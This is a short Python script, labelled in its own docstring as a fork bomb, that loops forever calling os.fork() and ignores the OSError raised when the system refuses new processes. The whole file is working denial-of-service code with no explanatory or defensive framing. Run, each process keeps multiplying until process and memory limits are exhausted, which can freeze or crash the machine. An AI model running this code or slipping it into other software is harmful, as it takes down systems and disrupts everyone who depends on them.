"""Fork bomb: every process forks forever and shrugs off the refusals."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
